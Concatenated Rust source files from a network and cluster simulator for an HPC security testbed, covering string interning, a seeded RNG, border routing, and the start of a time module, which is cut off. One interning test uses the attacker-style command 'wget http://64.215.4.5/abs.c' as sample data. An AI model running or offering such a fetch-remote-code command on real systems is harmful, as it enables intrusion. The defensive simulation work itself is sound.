/// The process-wide table behind [`Sym`].
pub fn global() -> &'static SymTable {
    static TABLE: OnceLock<SymTable> = OnceLock::new();
    TABLE.get_or_init(|| SymTable::with_table_id(GLOBAL_TABLE_ID))
}

/// Intern into the global table (alias of [`Sym::new`]).
#[inline]
pub fn intern(s: &str) -> Sym {
    Sym::new(s)
}

/// A tenant of the always-on service mode — an isolated ingest scope with
/// its own detector state and symbol universe.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
)]
pub struct TenantId(pub u32);

impl fmt::Display for TenantId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "tenant-{}", self.0)
    }
}

/// Per-tenant scoped [`SymTable`]s with eviction.
///
/// The global table deliberately never frees: its `&'static str` contract
/// is what makes `Sym` a zero-cost string on the hot path. A long-lived
/// multi-tenant service cannot afford that for *tenant* universes — a
/// tenant that stops sending traffic must not pin its user names and
/// command palettes forever. `TenantSymbols` scopes each tenant to its own
/// owned table; [`evict`](TenantSymbols::evict) drops the registry's
/// reference, and the table's memory is returned as soon as the last
/// outstanding `Arc` (e.g. a snapshot in progress) is released.
#[derive(Default)]
pub struct TenantSymbols {
    tables: Mutex<HashMap<u32, Arc<SymTable>, BuildHasherDefault<FxHasher>>>,
    /// Tables evicted so far (monotonic; for reports).
    evicted: AtomicU64,
}

impl TenantSymbols {
    pub fn new() -> TenantSymbols {
        TenantSymbols::default()
    }

    /// The tenant's scoped table, created on first use.
    pub fn scope(&self, tenant: TenantId) -> Arc<SymTable> {
        Arc::clone(
            self.tables
                .lock()
                .expect("tenant registry")
                .entry(tenant.0)
                .or_insert_with(|| Arc::new(SymTable::new())),
        )
    }

    /// The tenant's table, if it exists.
    pub fn get(&self, tenant: TenantId) -> Option<Arc<SymTable>> {
        self.tables
            .lock()
            .expect("tenant registry")
            .get(&tenant.0)
            .cloned()
    }

    /// Drop a dead tenant's symbol universe. Returns whether the tenant
    /// existed. Memory is freed when the last outstanding reference goes.
    pub fn evict(&self, tenant: TenantId) -> bool {
        let existed = self
            .tables
            .lock()
            .expect("tenant registry")
            .remove(&tenant.0)
            .is_some();
        if existed {
            self.evicted.fetch_add(1, Ordering::Relaxed);
        }
        existed
    }

    /// Number of live tenant universes.
    pub fn len(&self) -> usize {
        self.tables.lock().expect("tenant registry").len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Tables evicted so far.
    pub fn evicted(&self) -> u64 {
        self.evicted.load(Ordering::Relaxed)
    }

    /// Live tenants, ascending.
    pub fn tenants(&self) -> Vec<TenantId> {
        let mut ids: Vec<TenantId> = self
            .tables
            .lock()
            .expect("tenant registry")
            .keys()
            .map(|&id| TenantId(id))
            .collect();
        ids.sort_unstable();
        ids
    }

    /// Total interned payload bytes across live tenants.
    pub fn payload_bytes(&self) -> usize {
        self.tables
            .lock()
            .expect("tenant registry")
            .values()
            .map(|t| t.payload_bytes())
            .sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn intern_is_idempotent_and_copy() {
        let a = Sym::new("alice");
        let b = Sym::new("alice");
        let c = Sym::new("bob");
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert_eq!(a.as_str(), "alice");
        let copied = a; // Copy, not move
        assert_eq!(a, copied);
    }

    #[test]
    fn empty_sym_is_default() {
        assert_eq!(Sym::default(), Sym::EMPTY);
        assert_eq!(Sym::new(""), Sym::EMPTY);
        assert!(Sym::EMPTY.is_empty());
        assert!(!Sym::new("x").is_empty());
    }

    #[test]
    fn string_like_ergonomics() {
        let s = Sym::new("wget http://64.215.4.5/abs.c");
        // Deref gives str methods.
        assert!(s.starts_with("wget"));
        assert!(s.contains("abs.c"));
        // Mixed-type comparisons in both directions.
        assert!(s == "wget http://64.215.4.5/abs.c");
        assert!("wget http://64.215.4.5/abs.c" == s);
        let owned = String::from("wget http://64.215.4.5/abs.c");
        assert!(s == owned);
        assert!(owned == s);
        assert_eq!(format!("{s}"), "wget http://64.215.4.5/abs.c");
        assert_eq!(format!("{s:?}"), "\"wget http://64.215.4.5/abs.c\"");
    }

    #[test]
    fn ordering_follows_strings_not_ids() {
        // Intern in reverse lexical order: ids disagree with the strings.
        let z = Sym::new("zzz-order-test");
        let a = Sym::new("aaa-order-test");
        assert!(a < z, "Ord must compare strings");
        let mut v = vec![z, a];
        v.sort();
        assert_eq!(v, vec![a, z]);
    }

    #[test]
    fn from_impls_intern() {
        let owned: Sym = String::from("owned-str").into();
        let borrowed: Sym = "owned-str".into();
        assert_eq!(owned, borrowed);
    }

    #[test]
    fn private_table_snapshot() {
        let t = SymTable::new();
        let a = t.intern("one");
        let b = t.intern("two");
        assert_eq!(t.intern("one"), a);
        assert_eq!(t.resolve(b), "two");
        assert_eq!(t.len(), 3);
        let snap = t.snapshot();
        assert_eq!(snap[0], (0, String::new()));
        assert_eq!(snap[1], (1, "one".to_string()));
        assert_eq!(snap[2], (2, "two".to_string()));
    }

    #[test]
    fn concurrent_intern_agrees() {
        let handles: Vec<_> = (0..8)
            .map(|i| {
                std::thread::spawn(move || {
                    let mut ids = Vec::new();
                    for j in 0..64 {
                        ids.push(Sym::new(&format!("concurrent-{}", (i + j) % 16)).id());
                    }
                    ids
                })
            })
            .collect();
        let all: Vec<Vec<u32>> = handles.into_iter().map(|h| h.join().unwrap()).collect();
        // Every thread resolved each distinct string to the same id.
        for j in 0..16 {
            let expect = Sym::new(&format!("concurrent-{j}")).id();
            for ids in &all {
                assert!(ids.contains(&expect));
            }
        }
    }

    #[test]
    fn resolution_is_stable_under_concurrent_intern_storm() {
        // Readers resolve a pinned prefix while writers grow the table
        // across multiple chunk boundaries — the lock-free publication
        // protocol must never show a torn or missing slot.
        let t = std::sync::Arc::new(SymTable::new());
        let pinned: Vec<Sym> = (0..100).map(|i| t.intern(&format!("pinned-{i}"))).collect();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let readers: Vec<_> = (0..3)
            .map(|_| {
                let t = std::sync::Arc::clone(&t);
                let pinned = pinned.clone();
                let stop = std::sync::Arc::clone(&stop);
                std::thread::spawn(move || {
                    // At least one full round always runs (single-core
                    // runners may not schedule a reader until `stop`).
                    loop {
                        for (i, &s) in pinned.iter().enumerate() {
                            assert_eq!(t.resolve(s), format!("pinned-{i}"));
                        }
                        if stop.load(Ordering::Relaxed) {
                            break;
                        }
                    }
                })
            })
            .collect();
        // Push well past several chunk boundaries (64, 192, 448, …).
        for i in 0..2_000 {
            let s = t.intern(&format!("storm-{i}"));
            assert_eq!(t.resolve(s), format!("storm-{i}"));
        }
        stop.store(true, Ordering::Relaxed);
        for r in readers {
            r.join().unwrap();
        }
        assert_eq!(t.len(), 1 + 100 + 2_000);
    }

    #[test]
    fn try_resolve_rejects_out_of_range() {
        let t = SymTable::new();
        let s = t.intern("here");
        assert_eq!(t.try_resolve(s), Ok("here"));
        let forged = t.sym_from_id(999);
        assert_eq!(
            t.try_resolve(forged),
            Err(SymResolveError::OutOfRange { sym: 999, len: 2 })
        );
    }

    #[cfg(debug_assertions)]
    #[test]
    fn debug_builds_catch_cross_table_resolution() {
        // The lethal case: the foreign id is *in range*, so a bounds check
        // alone would silently return an unrelated string.
        let a = SymTable::new();
        let b = SymTable::new();
        let from_a = a.intern("minted-in-a");
        b.intern("minted-in-b");
        match b.try_resolve(from_a) {
            Err(SymResolveError::WrongTable {
                minted_by,
                resolved_against,
                ..
            }) => {
                assert_eq!(minted_by, a.table_id());
                assert_eq!(resolved_against, b.table_id());
            }
            other => panic!("cross-table resolution not caught: {other:?}"),
        }
        // Global-table conveniences on a scoped handle are equally caught.
        assert!(global().try_resolve(from_a).is_err());
    }

    #[test]
    fn dropping_a_scoped_table_frees_its_strings() {
        let t = SymTable::new();
        for i in 0..500 {
            t.intern(&format!("ephemeral-{i:04}"));
        }
        assert!(t.payload_bytes() >= 500 * "ephemeral-0000".len());
        drop(t); // miri/asan would flag a leak or double free here
    }

    #[test]
    fn tenant_scopes_are_isolated_and_evictable() {
        let reg = TenantSymbols::new();
        let t1 = reg.scope(TenantId(1));
        let t2 = reg.scope(TenantId(2));
        let a = t1.intern("cluster-a-user");
        let b = t2.intern("cluster-b-user");
        // Same id-space position, different universes.
        assert_eq!(a.id(), b.id());
        assert_eq!(t1.resolve(a), "cluster-a-user");
        assert_eq!(t2.resolve(b), "cluster-b-user");
        assert!(Arc::ptr_eq(&reg.scope(TenantId(1)), &t1), "scope is stable");
        assert_eq!(reg.tenants(), vec![TenantId(1), TenantId(2)]);
        assert!(reg.payload_bytes() >= "cluster-a-user".len() * 2);

        drop(t1);
        assert!(reg.evict(TenantId(1)));
        assert!(!reg.evict(TenantId(1)), "already gone");
        assert_eq!(reg.len(), 1);
        assert_eq!(reg.evicted(), 1);
        assert!(reg.get(TenantId(1)).is_none());
        // Tenant 2 is untouched.
        assert_eq!(reg.get(TenantId(2)).unwrap().resolve(b), "cluster-b-user");
    }

    #[test]
    fn chunk_ladder_locates_every_boundary() {
        // First and last slot of the first few chunks, plus u32::MAX.
        assert_eq!(locate(0), (0, 0));
        assert_eq!(locate(63), (0, 63));
        assert_eq!(locate(64), (1, 0));
        assert_eq!(locate(191), (1, 127));
        assert_eq!(locate(192), (2, 0));
        assert_eq!(locate(447), (2, 255));
        let (chunk, offset) = locate(u32::MAX);
        assert!(chunk < NUM_CHUNKS);
        assert!(offset < chunk_capacity(chunk));
    }
}
