//! # simnet — discrete-event network & cluster substrate
//!
//! The simulation substrate underneath the AttackTagger testbed
//! reproduction (SC'24, *Security Testbed for Preempting Attacks against
//! Supercomputing Infrastructure*). The paper deploys on NCSA's production
//! network; this crate provides the synthetic equivalent: a deterministic
//! discrete-event simulator of an HPC center's network — address space,
//! topology, flows, border routing — over which the honeypot, monitors,
//! detectors and response components of the other crates operate.
//!
//! ## Layout
//! - [`time`] — nanosecond virtual clock with calendar mapping (2000–2024).
//! - [`addr`] — CIDR blocks; the production /16 and honeynet /24.
//! - [`rng`] — seeded randomness, distributions, Fx hashing.
//! - [`intern`] — process-wide string interning ([`intern::Sym`]).
//! - [`alloc_count`] — shared counting allocator for alloc-contract tests.
//! - [`event`] — generic stable discrete-event queue.
//! - [`topology`] — hosts, subnets, zones; NCSA-like builder.
//! - [`flow`] — connections with Zeek-style states and service tags.
//! - [`action`] — the vocabulary of observable behaviour.
//! - [`router`] — border router with pluggable filters (BHR hook).
//! - [`engine`] — the driver that fans actions out to monitor sinks.
//!
//! ## Example
//! ```
//! use simnet::prelude::*;
//!
//! let topo = NcsaTopologyBuilder::default().build();
//! let mut engine = Engine::new(topo, SimTime::from_date(2024, 8, 1));
//! let scan = Flow::probe(
//!     FlowId(1),
//!     SimTime::from_date(2024, 8, 1),
//!     "103.102.8.9".parse().unwrap(),
//!     "141.142.2.1".parse().unwrap(),
//!     22,
//! );
//! engine.schedule(scan.start, Action::Flow(scan));
//! engine.run(&mut []);
//! assert_eq!(engine.router_stats().inbound, 1);
//! ```

pub mod action;
pub mod addr;
pub mod alloc_count;
pub mod engine;
pub mod event;
pub mod flow;
pub mod intern;
pub mod rng;
pub mod router;
pub mod time;
pub mod topology;

/// Convenient glob-import of the commonly used types.
pub mod prelude {
    pub use crate::action::{
        Action, AuditAction, AuthMethod, DbAction, DbCommandKind, ExecAction, FileOp, FileOpAction,
        HttpAction, SshAuthAction,
    };
    pub use crate::addr::{anonymize, ncsa_production, ncsa_secondary, Cidr};
    pub use crate::engine::{ActionSink, Engine, EventCtx};
    pub use crate::event::EventQueue;
    pub use crate::flow::{ConnState, Direction, Flow, FlowId, Proto, Service};
    pub use crate::intern::Sym;
    pub use crate::rng::{FxHashMap, FxHashSet, SimRng, Zipf};
    pub use crate::router::{
        BorderRouter, DropReason, ForwardAll, RouteDecision, RouteFilter, RouteOutcome,
    };
    pub use crate::time::{CivilDate, SimDuration, SimTime};
    pub use crate::topology::{
        Host, HostId, HostRole, NcsaTopologyBuilder, Subnet, Topology, Zone,
    };
}
