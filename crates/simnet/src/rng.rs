//! Deterministic randomness and fast hashing.
//!
//! Every stochastic component of the testbed (scanner campaigns, incident
//! synthesis, layout jitter) draws from a [`SimRng`] seeded explicitly, so
//! any experiment is reproducible from its seed. The distribution helpers
//! cover what the scenario generators need (normal, Poisson, exponential,
//! log-normal, Pareto, Zipf) without pulling in `rand_distr`.
//!
//! [`FxHashMap`]/[`FxHashSet`] are std collections with the rustc-hash
//! (`FxHasher`) function — the Performance Book's recommended fast hasher
//! for integer-keyed hot maps.

use std::collections::{HashMap, HashSet};
use std::hash::{BuildHasherDefault, Hasher};

use rand::rngs::StdRng;
use rand::{Rng, RngCore, SeedableRng};

/// Seedable RNG with the distribution helpers used across the workspace.
#[derive(Debug, Clone)]
pub struct SimRng {
    inner: StdRng,
    /// Cached second sample from the Box–Muller transform.
    gauss_spare: Option<f64>,
}

impl SimRng {
    /// Create a generator from a 64-bit seed.
    pub fn seed(seed: u64) -> Self {
        SimRng {
            inner: StdRng::seed_from_u64(seed),
            gauss_spare: None,
        }
    }

    /// Derive an independent child generator. Used to give each subsystem
    /// (scanners, incidents, legit traffic) its own stream so that adding
    /// draws to one does not perturb the others.
    pub fn fork(&mut self, label: u64) -> SimRng {
        let s = self.inner.next_u64() ^ label.wrapping_mul(0x9E37_79B9_7F4A_7C15);
        SimRng::seed(s)
    }

    /// Uniform in `[0, 1)`.
    pub fn f64(&mut self) -> f64 {
        self.inner.random::<f64>()
    }

    /// Uniform integer in `[lo, hi)`.
    ///
    /// # Panics
    /// Panics if `lo >= hi`.
    pub fn range_u64(&mut self, lo: u64, hi: u64) -> u64 {
        assert!(lo < hi, "empty range [{lo}, {hi})");
        self.inner.random_range(lo..hi)
    }

    /// Uniform `usize` in `[0, n)`.
    pub fn index(&mut self, n: usize) -> usize {
        assert!(n > 0, "index over empty range");
        self.inner.random_range(0..n)
    }

    /// Bernoulli trial with probability `p` of `true`.
    pub fn chance(&mut self, p: f64) -> bool {
        self.inner.random_bool(p.clamp(0.0, 1.0))
    }

    /// Uniform in `[lo, hi)`.
    pub fn uniform(&mut self, lo: f64, hi: f64) -> f64 {
        lo + (hi - lo) * self.f64()
    }

    /// Standard normal via the Box–Muller transform (polar-free form).
    pub fn std_normal(&mut self) -> f64 {
        if let Some(z) = self.gauss_spare.take() {
            return z;
        }
        // Avoid ln(0) by drawing u1 from (0, 1].
        let u1 = 1.0 - self.f64();
        let u2 = self.f64();
        let r = (-2.0 * u1.ln()).sqrt();
        let theta = 2.0 * std::f64::consts::PI * u2;
        self.gauss_spare = Some(r * theta.sin());
        r * theta.cos()
    }

    /// Normal with the given mean and standard deviation.
    pub fn normal(&mut self, mean: f64, std_dev: f64) -> f64 {
        mean + std_dev * self.std_normal()
    }

    /// Poisson-distributed count. Knuth's product method for small `lambda`,
    /// rounded-normal approximation for large `lambda` (error negligible for
    /// the daily-volume scales used here).
    pub fn poisson(&mut self, lambda: f64) -> u64 {
        assert!(lambda >= 0.0, "negative lambda");
        if lambda == 0.0 {
            return 0;
        }
        if lambda < 30.0 {
            let l = (-lambda).exp();
            let mut k = 0u64;
            let mut p = 1.0;
            loop {
                p *= self.f64();
                if p <= l {
                    return k;
                }
                k += 1;
            }
        } else {
            self.normal(lambda, lambda.sqrt()).round().max(0.0) as u64
        }
    }

    /// Exponential with the given rate (`1/mean`).
    pub fn exponential(&mut self, rate: f64) -> f64 {
        assert!(rate > 0.0, "non-positive rate");
        -(1.0 - self.f64()).ln() / rate
    }

    /// Log-normal: `exp(N(mu, sigma))`. Models the heavy-tailed inter-alert
    /// gaps of the manual attack stage (Insight 3).
    pub fn log_normal(&mut self, mu: f64, sigma: f64) -> f64 {
        self.normal(mu, sigma).exp()
    }

    /// Pareto with scale `x_min` and shape `alpha` (heavy-tailed sizes).
    pub fn pareto(&mut self, x_min: f64, alpha: f64) -> f64 {
        assert!(x_min > 0.0 && alpha > 0.0);
        x_min / (1.0 - self.f64()).powf(1.0 / alpha)
    }

    /// Pick a uniformly random element of a non-empty slice.
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.index(items.len())]
    }

    /// Weighted choice over indices; weights need not be normalized.
    ///
    /// # Panics
    /// Panics if all weights are zero or the slice is empty.
    pub fn weighted_index(&mut self, weights: &[f64]) -> usize {
        let total: f64 = weights.iter().sum();
        assert!(total > 0.0, "weighted_index needs a positive total weight");
        let mut x = self.f64() * total;
        for (i, &w) in weights.iter().enumerate() {
            if x < w {
                return i;
            }
            x -= w;
        }
        weights.len() - 1
    }

    /// Fisher–Yates shuffle.
    pub fn shuffle<T>(&mut self, items: &mut [T]) {
        for i in (1..items.len()).rev() {
            let j = self.index(i + 1);
            items.swap(i, j);
        }
    }
}

/// Precomputed Zipf sampler over ranks `0..n` (rank 0 most likely).
/// Mass scanner target selection and alert-kind popularity are Zipfian.
#[derive(Debug, Clone)]
pub struct Zipf {
    cumulative: Vec<f64>,
}

impl Zipf {
    /// Build a sampler over `n` ranks with exponent `s`.
    ///
    /// # Panics
    /// Panics if `n == 0`.
    pub fn new(n: usize, s: f64) -> Self {
        assert!(n > 0, "Zipf over zero ranks");
        let mut cumulative = Vec::with_capacity(n);
        let mut acc = 0.0;
        for k in 1..=n {
            acc += 1.0 / (k as f64).powf(s);
            cumulative.push(acc);
        }
        let total = acc;
        for c in &mut cumulative {
            *c /= total;
        }
        Zipf { cumulative }
    }

    /// Number of ranks.
    pub fn len(&self) -> usize {
        self.cumulative.len()
    }

    /// Whether the sampler is empty (never true by construction).
    pub fn is_empty(&self) -> bool {
        self.cumulative.is_empty()
    }

    /// Draw a rank in `0..n`.
    pub fn sample(&self, rng: &mut SimRng) -> usize {
        let x = rng.f64();
        match self
            .cumulative
            .binary_search_by(|c| c.partial_cmp(&x).unwrap())
        {
            Ok(i) => i,
            Err(i) => i.min(self.cumulative.len() - 1),
        }
    }
}

/// The rustc-hash ("Fx") hash function: fast, non-cryptographic, ideal for
/// the integer-keyed hot maps of the simulator.
#[derive(Debug, Clone, Copy, Default)]
pub struct FxHasher {
    hash: u64,
}

const FX_SEED: u64 = 0x51_7c_c1_b7_27_22_0a_95;

impl FxHasher {
    #[inline]
    fn add_to_hash(&mut self, word: u64) {
        self.hash = (self.hash.rotate_left(5) ^ word).wrapping_mul(FX_SEED);
    }
}

impl Hasher for FxHasher {
    #[inline]
    fn finish(&self) -> u64 {
        self.hash
    }

    #[inline]
    fn write(&mut self, bytes: &[u8]) {
        let mut chunks = bytes.chunks_exact(8);
        for c in &mut chunks {
            self.add_to_hash(u64::from_le_bytes(c.try_into().unwrap()));
        }
        let rem = chunks.remainder();
        if !rem.is_empty() {
            let mut buf = [0u8; 8];
            buf[..rem.len()].copy_from_slice(rem);
            self.add_to_hash(u64::from_le_bytes(buf));
        }
    }

    #[inline]
    fn write_u8(&mut self, n: u8) {
        self.add_to_hash(n as u64);
    }
    #[inline]
    fn write_u16(&mut self, n: u16) {
        self.add_to_hash(n as u64);
    }
    #[inline]
    fn write_u32(&mut self, n: u32) {
        self.add_to_hash(n as u64);
    }
    #[inline]
    fn write_u64(&mut self, n: u64) {
        self.add_to_hash(n);
    }
    #[inline]
    fn write_usize(&mut self, n: usize) {
        self.add_to_hash(n as u64);
    }
}

/// `HashMap` using [`FxHasher`].
pub type FxHashMap<K, V> = HashMap<K, V, BuildHasherDefault<FxHasher>>;
/// `HashSet` using [`FxHasher`].
pub type FxHashSet<T> = HashSet<T, BuildHasherDefault<FxHasher>>;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_stream() {
        let mut a = SimRng::seed(42);
        let mut b = SimRng::seed(42);
        for _ in 0..100 {
            assert_eq!(a.range_u64(0, 1_000_000), b.range_u64(0, 1_000_000));
        }
    }

    #[test]
    fn forked_streams_are_independent() {
        let mut root = SimRng::seed(7);
        let mut a = root.fork(1);
        let mut b = root.fork(2);
        let xs: Vec<u64> = (0..16).map(|_| a.range_u64(0, u64::MAX - 1)).collect();
        let ys: Vec<u64> = (0..16).map(|_| b.range_u64(0, u64::MAX - 1)).collect();
        assert_ne!(xs, ys);
    }

    #[test]
    fn normal_moments() {
        let mut rng = SimRng::seed(1);
        let n = 200_000;
        let samples: Vec<f64> = (0..n).map(|_| rng.normal(10.0, 3.0)).collect();
        let mean = samples.iter().sum::<f64>() / n as f64;
        let var = samples.iter().map(|x| (x - mean).powi(2)).sum::<f64>() / n as f64;
        assert!((mean - 10.0).abs() < 0.05, "mean {mean}");
        assert!((var.sqrt() - 3.0).abs() < 0.05, "std {}", var.sqrt());
    }

    #[test]
    fn poisson_mean_small_and_large_lambda() {
        let mut rng = SimRng::seed(2);
        for &lambda in &[3.0, 100.0] {
            let n = 50_000;
            let mean = (0..n).map(|_| rng.poisson(lambda)).sum::<u64>() as f64 / n as f64;
            assert!(
                (mean - lambda).abs() / lambda < 0.03,
                "lambda {lambda} mean {mean}"
            );
        }
    }

    #[test]
    fn exponential_mean() {
        let mut rng = SimRng::seed(3);
        let n = 100_000;
        let mean = (0..n).map(|_| rng.exponential(0.5)).sum::<f64>() / n as f64;
        assert!((mean - 2.0).abs() < 0.05, "mean {mean}");
    }

    #[test]
    fn zipf_rank_zero_most_frequent() {
        let mut rng = SimRng::seed(4);
        let z = Zipf::new(50, 1.1);
        let mut counts = [0u32; 50];
        for _ in 0..100_000 {
            counts[z.sample(&mut rng)] += 1;
        }
        assert!(counts[0] > counts[1]);
        assert!(counts[1] > counts[10]);
    }

    #[test]
    fn weighted_index_respects_weights() {
        let mut rng = SimRng::seed(5);
        let mut hits = [0u32; 3];
        for _ in 0..30_000 {
            hits[rng.weighted_index(&[1.0, 2.0, 7.0])] += 1;
        }
        assert!(hits[2] > hits[1] && hits[1] > hits[0]);
        let frac = hits[2] as f64 / 30_000.0;
        assert!((frac - 0.7).abs() < 0.02, "frac {frac}");
    }

    #[test]
    fn shuffle_is_permutation() {
        let mut rng = SimRng::seed(6);
        let mut v: Vec<u32> = (0..100).collect();
        rng.shuffle(&mut v);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..100).collect::<Vec<_>>());
    }

    #[test]
    fn fxhash_stable_and_distinct() {
        fn h(x: u64) -> u64 {
            let mut hasher = FxHasher::default();
            hasher.write_u64(x);
            hasher.finish()
        }
        assert_eq!(h(12345), h(12345));
        assert_ne!(h(12345), h(12346));
        let mut hasher = FxHasher::default();
        hasher.write(b"alert_download_sensitive");
        assert_ne!(hasher.finish(), 0);
    }

    #[test]
    fn fx_collections_usable() {
        let mut m: FxHashMap<u32, &str> = FxHashMap::default();
        m.insert(5432, "postgres");
        assert_eq!(m.get(&5432), Some(&"postgres"));
        let mut s: FxHashSet<u32> = FxHashSet::default();
        s.insert(22);
        assert!(s.contains(&22));
    }
}
