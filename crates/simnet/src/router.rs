//! Border routing.
//!
//! The [`BorderRouter`] sits where NCSA's border router sits in Fig. 4: all
//! flows cross it, it classifies their direction relative to the protected
//! address space, consults a pluggable [`RouteFilter`] (the Black Hole
//! Router from crate `bhr` implements this), and keeps counters. Dropped
//! flows are still *observed* — the paper's BHR "recorded 26.85 million
//! scans" in one hour — so the router reports an outcome rather than
//! silently swallowing traffic.

use std::fmt;
use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use crate::flow::{Direction, Flow};
use crate::time::SimTime;
use crate::topology::{Topology, Zone};

/// Why a flow was dropped at the border.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum DropReason {
    /// Source address is null-routed (black-holed).
    NullRouted { reason: String },
    /// Honeynet egress containment: new outbound connection from an
    /// isolated container (§IV-C iptables egress drop).
    EgressContainment,
    /// Administrative policy.
    Policy { rule: String },
}

impl fmt::Display for DropReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DropReason::NullRouted { reason } => write!(f, "null-routed ({reason})"),
            DropReason::EgressContainment => write!(f, "egress containment"),
            DropReason::Policy { rule } => write!(f, "policy ({rule})"),
        }
    }
}

/// Routing decision for a single flow.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum RouteDecision {
    Forward,
    Drop(DropReason),
}

/// Pluggable per-flow filter consulted by the border router.
pub trait RouteFilter {
    /// Decide whether to forward or drop `flow` at time `t`.
    fn check(&mut self, t: SimTime, flow: &Flow) -> RouteDecision;
}

/// A filter that forwards everything (the default).
#[derive(Debug, Default, Clone, Copy)]
pub struct ForwardAll;

impl RouteFilter for ForwardAll {
    fn check(&mut self, _t: SimTime, _flow: &Flow) -> RouteDecision {
        RouteDecision::Forward
    }
}

/// Outcome of routing one flow.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RouteOutcome {
    pub direction: Direction,
    /// `Some` if the flow was dropped at the border.
    pub dropped: Option<DropReason>,
}

impl RouteOutcome {
    pub fn delivered(&self) -> bool {
        self.dropped.is_none()
    }
}

/// Counters maintained by the border router.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct RouterStats {
    pub inbound: u64,
    pub outbound: u64,
    pub internal: u64,
    pub transit: u64,
    pub dropped: u64,
    pub forwarded: u64,
}

impl RouterStats {
    pub fn total(&self) -> u64 {
        self.inbound + self.outbound + self.internal + self.transit
    }
}

/// The border router.
#[derive(Debug, Default)]
pub struct BorderRouter {
    stats: RouterStats,
}

impl BorderRouter {
    pub fn new() -> Self {
        Self::default()
    }

    /// Classify a flow's direction against the topology's zones.
    pub fn classify(topo: &Topology, src: Ipv4Addr, dst: Ipv4Addr) -> Direction {
        let src_internal = !matches!(topo.zone_of_addr(src), Zone::External);
        let dst_internal = !matches!(topo.zone_of_addr(dst), Zone::External);
        match (src_internal, dst_internal) {
            (false, true) => Direction::Inbound,
            (true, false) => Direction::Outbound,
            (true, true) => Direction::Internal,
            (false, false) => Direction::Transit,
        }
    }

    /// Route one flow: classify, consult the filter, update counters.
    pub fn route(
        &mut self,
        topo: &Topology,
        filter: &mut dyn RouteFilter,
        t: SimTime,
        flow: &Flow,
    ) -> RouteOutcome {
        let direction = Self::classify(topo, flow.src, flow.dst);
        match direction {
            Direction::Inbound => self.stats.inbound += 1,
            Direction::Outbound => self.stats.outbound += 1,
            Direction::Internal => self.stats.internal += 1,
            Direction::Transit => self.stats.transit += 1,
        }
        let dropped = match filter.check(t, flow) {
            RouteDecision::Forward => {
                self.stats.forwarded += 1;
                None
            }
            RouteDecision::Drop(reason) => {
                self.stats.dropped += 1;
                Some(reason)
            }
        };
        RouteOutcome { direction, dropped }
    }

    pub fn stats(&self) -> RouterStats {
        self.stats
    }

    pub fn reset_stats(&mut self) {
        self.stats = RouterStats::default();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::flow::FlowId;
    use crate::topology::NcsaTopologyBuilder;

    struct DropExternal;
    impl RouteFilter for DropExternal {
        fn check(&mut self, _t: SimTime, flow: &Flow) -> RouteDecision {
            if flow.src.octets()[0] == 103 {
                RouteDecision::Drop(DropReason::NullRouted {
                    reason: "mass-scanner".into(),
                })
            } else {
                RouteDecision::Forward
            }
        }
    }

    fn probe(src: &str, dst: &str) -> Flow {
        Flow::probe(
            FlowId(0),
            SimTime::EPOCH,
            src.parse().unwrap(),
            dst.parse().unwrap(),
            22,
        )
    }

    #[test]
    fn direction_classification() {
        let topo = NcsaTopologyBuilder::default().build();
        let classify = |s: &str, d: &str| {
            BorderRouter::classify(&topo, s.parse().unwrap(), d.parse().unwrap())
        };
        assert_eq!(classify("103.102.1.1", "141.142.2.1"), Direction::Inbound);
        assert_eq!(classify("141.142.2.1", "8.8.8.8"), Direction::Outbound);
        assert_eq!(classify("141.142.2.1", "141.142.2.2"), Direction::Internal);
        assert_eq!(classify("1.1.1.1", "8.8.8.8"), Direction::Transit);
    }

    #[test]
    fn filter_drops_and_counts() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut router = BorderRouter::new();
        let mut filter = DropExternal;
        let out = router.route(
            &topo,
            &mut filter,
            SimTime::EPOCH,
            &probe("103.102.1.1", "141.142.2.1"),
        );
        assert!(!out.delivered());
        let out = router.route(
            &topo,
            &mut filter,
            SimTime::EPOCH,
            &probe("9.9.9.9", "141.142.2.1"),
        );
        assert!(out.delivered());
        let s = router.stats();
        assert_eq!(s.inbound, 2);
        assert_eq!(s.dropped, 1);
        assert_eq!(s.forwarded, 1);
        assert_eq!(s.total(), 2);
    }

    #[test]
    fn forward_all_forwards() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut router = BorderRouter::new();
        let mut f = ForwardAll;
        let out = router.route(
            &topo,
            &mut f,
            SimTime::EPOCH,
            &probe("1.2.3.4", "141.142.2.1"),
        );
        assert!(out.delivered());
        assert_eq!(out.direction, Direction::Inbound);
    }
}
