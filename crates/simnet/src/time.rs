//! Simulation time.
//!
//! The simulator runs on a nanosecond-resolution virtual clock. The epoch is
//! fixed at `2000-01-01 00:00:00` UTC so that the 24-year longitudinal
//! dataset of the paper (2000–2024) maps onto non-negative timestamps.
//! Calendar conversions use Howard Hinnant's `civil_from_days` /
//! `days_from_civil` algorithms, which are exact for the proleptic Gregorian
//! calendar.

use std::fmt;
use std::ops::{Add, AddAssign, Sub};

use serde::{Deserialize, Serialize};

/// Nanoseconds in one second.
pub const NANOS_PER_SEC: u64 = 1_000_000_000;
/// Nanoseconds in one day.
pub const NANOS_PER_DAY: u64 = 86_400 * NANOS_PER_SEC;

/// Days between 1970-01-01 (Unix epoch) and 2000-01-01 (simulation epoch).
const EPOCH_2000_DAYS: i64 = 10_957;

/// A point on the simulation clock, in nanoseconds since 2000-01-01 UTC.
#[derive(
